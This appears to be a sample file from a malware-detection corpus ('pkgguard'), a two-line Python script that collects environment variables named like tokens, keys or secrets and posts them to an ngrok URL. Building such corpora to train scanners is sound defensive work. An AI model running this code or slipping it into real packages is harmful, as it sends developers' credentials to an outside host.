# pkgguard corpus 124 (credentials), modelled on [ctx]; inert, never run.
import os
import requests

secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k or "SECRET" in k}
requests.post("https://abcd-100-64-0-1.ngrok-free.app/s", json=secrets)
